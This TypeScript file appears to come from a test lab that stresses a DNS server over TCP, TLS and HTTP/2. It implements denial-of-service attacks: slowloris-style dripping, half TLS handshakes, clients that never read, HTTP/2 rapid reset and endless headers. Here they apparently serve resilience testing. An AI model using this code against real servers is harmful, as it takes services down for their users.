// Attackers, in a process of their own: so many connections are held at any time, and each is as
// rude as its attack says.

import { connect as connectTcp, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { setTimeout as sleep } from 'node:timers/promises'

import { serveParent } from '../lab/child.ts'
import { framed, makeQuery } from '../lab/message.ts'
import { nameLabel } from '../lab/questions.ts'
import type { Attack, AttackJob, AttackRecord } from './attackers.ts'
import {
  endHeadersNever,
  http2Start,
  megabyteOfHeaders,
  requestsTakenBack,
} from './http2-frames.ts'

/** Attackers' addresses: 198.51.100.64 to .253. */
const FIRST_ADDRESS = 64
const ADDRESSES = 190

/** Milliseconds between two looks at how many are held, and how many come or go at each. */
const LOOK = 10
const AT_ONCE = 20

const SECOND = 1000

/** A record header and the beginning of a ClientHello that never goes on (RFC 8446 §4.1.2). */
const HALF_HELLO = Buffer.from('160301020001000100fc0303', 'hex')

/** A frame of 65535 octets, of which few come. */
const ANNOUNCEMENT = Buffer.concat([Buffer.from([0xff, 0xff]), makeQuery('never', 1)])

/** Queries in one write of those who never read: answers to some hundred of them fill a socket. */
const PILE = Buffer.concat(
  Array.from({ length: 500 }, (_, i) => framed(makeQuery(nameLabel('', i), i))),
)

class Attackers {
  readonly #job: AttackJob
  readonly #sockets = new Set<Socket>()
  #opened = 0
  #ended = 0
  #mostHeld = 0
  #over = false

  constructor(job: AttackJob) {
    this.#job = job
  }

  async go(): Promise<AttackRecord> {
    const end = performance.now() + this.#job.seconds * SECOND
    while (performance.now() < end) {
      const missing = this.#job.connections - this.#sockets.size
      for (let i = 0; i < Math.min(missing, AT_ONCE); i++) this.#open()
      this.#mostHeld = Math.max(this.#mostHeld, this.#sockets.size)
      await sleep(LOOK)
    }
    this.#over = true
    // A thousand sockets that close in one moment would be an attack of its own kind.
    while (this.#sockets.size > 0) {
      for (const socket of [...this.#sockets].slice(0, AT_ONCE)) socket.destroy()
      await sleep(LOOK)
    }
    return { opened: this.#opened, mostHeld: this.#mostHeld, ended: this.#ended }
  }

  #open(): void {
    const { attack, server, port, dotPort, dohPort } = this.#job
    const number = this.#opened++
    const localAddress = `198.51.100.${FIRST_ADDRESS + (number % ADDRESSES)}`
    const overHttp = attack === 'rapid-reset' || attack === 'endless-headers'
    const at = overHttp ? dohPort : attack === 'silent-tls' ? dotPort : port
    const carrier = connectTcp({ host: server, port: at, localAddress, noDelay: true })
    this.#sockets.add(carrier)
    carrier.on('error', () => {})
    const socket = overHttp
      ? connectTls({ socket: carrier, rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      : carrier
    socket.on('error', () => {})
    carrier.once('close', () => {
      this.#sockets.delete(carrier)
      if (!this.#over) this.#ended++
    })
    socket.once(overHttp ? 'secureConnect' : 'connect', () => misbehave(attack, socket, number))
  }
}

function misbehave(attack: Attack, socket: Socket, number: number): void {
  switch (attack) {
    case 'silent-tcp':
      socket.resume()
      break
    case 'silent-tls':
      socket.resume()
      if (number % 2 === 1) socket.write(HALF_HELLO)
      break
    case 'announced':
      socket.resume()
      socket.write(ANNOUNCEMENT)
      break
    case 'drip':
      socket.resume()
      drip(socket, framed(makeQuery('drip', number)))
      break
    case 'never-read':
      socket.pause()
      pile(socket, () => PILE)
      break
    case 'rapid-reset': {
      socket.resume()
      socket.write(http2Start())
      let stream = 1
      pile(socket, () => {
        const frames = requestsTakenBack(stream)
        stream += frames.streams
        return frames.bytes
      })
      break
    }
    case 'endless-headers':
      socket.resume()
      socket.write(http2Start())
      if (number % 2 === 0) pile(socket, endHeadersNever())
      else socket.write(megabyteOfHeaders())
      break
  }
}

function drip(socket: Socket, query: Buffer): void {
  let at = 0
  const timer = setInterval(() => {
    if (at < query.length) socket.write(query.subarray(at, ++at))
  }, SECOND)
  socket.once('close', () => clearInterval(timer))
}

/** Writes on as long as the other side takes it. */
function pile(socket: Socket, more: () => Buffer): void {
  const write = (): void => {
    if (socket.destroyed) return
    socket.write(more(), () => setImmediate(write))
  }
  write()
}

serveParent((job) => new Attackers(job as AttackJob).go())
